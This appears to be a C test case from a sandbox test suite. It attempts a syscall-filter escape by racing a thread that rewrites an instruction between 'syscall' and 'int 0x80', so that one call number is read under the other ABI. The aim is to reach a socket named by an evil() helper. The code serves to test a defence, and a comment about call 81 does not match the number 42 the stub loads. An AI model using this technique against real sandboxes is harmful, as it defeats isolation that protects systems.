// escape: has the agent's thread come into the kernel by int 0x80, where numbers mean other calls
// group: second ABIs
// policy: unix
// capabilities: CAP_SETGID
// attempts: 2000
#include <dirent.h>

#include "unix.h"

// Of i386, 81 is setgroups(2): with a size of 0 it succeeds, and the working directory stays what it was.
static const unsigned char kCode[] = {
    0x53,                 // push %rbx
    0x31, 0xdb,           // xor %ebx, %ebx
    0xb8, 42,   0, 0, 0,  // mov $SYS_connect, %eax
    0x0f, 0x05,           // syscall, or int $0x80
    0x5b, 0xc3,           // pop %rbx; ret
};
enum { kInstructionAt = 8 };

static volatile uint16_t* instruction;

static bool is_there(int us, int other) {
  DIR* tasks = opendir("/proc/self/task");
  bool found = false;
  for (struct dirent* one; tasks != NULL && (one = readdir(tasks)) != NULL;) {
    const int tid = atoi(one->d_name);
    found = found || (tid != 0 && tid != us && tid != other);
  }
  if (tasks != NULL) closedir(tasks);
  return found;
}

// While the thread is there: whoever else comes into the kernel so dies of it.
static void* rewrite(void* unused) {
  unsigned seed = (unsigned)getpid();
  const int us = getpid(), other = (int)syscall(SYS_gettid);
  for (;;) {
    if (!is_there(us, other)) continue;
    moment(&seed);
    *instruction = 0x80cd;
    moment(&seed);
    *instruction = 0x050f;
  }
  return unused;
}

static void attack(void) {
  serve_all(SOCK_STREAM);
  connect_once(named(evil()));
  enter_false_proc();
  unsigned char* page =
      mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  if (page == MAP_FAILED) broken("mmap");
  memcpy(page, kCode, sizeof kCode);
  instruction = (volatile uint16_t*)(void*)(page + kInstructionAt);
  const struct name good = named(GOOD_SOCKET);
  long (*call)(int, const void*, socklen_t) = (long (*)(int, const void*, socklen_t))page;
  while (more()) {
    if (in_child()) {
      // Its first thread may be killed alone.
      const struct itimerval soon = {.it_value = {.tv_usec = 50000}};
      setitimer(ITIMER_REAL, &soon, NULL);
      thread(rewrite, NULL);
      for (int i = 0; i < 20; i++) {
        const int fd = unix_socket(SOCK_STREAM);
        call(fd, &good.address, good.length);
        arrived();
        close(fd);
      }
      _exit(0);
    }
    arrived();
  }
}
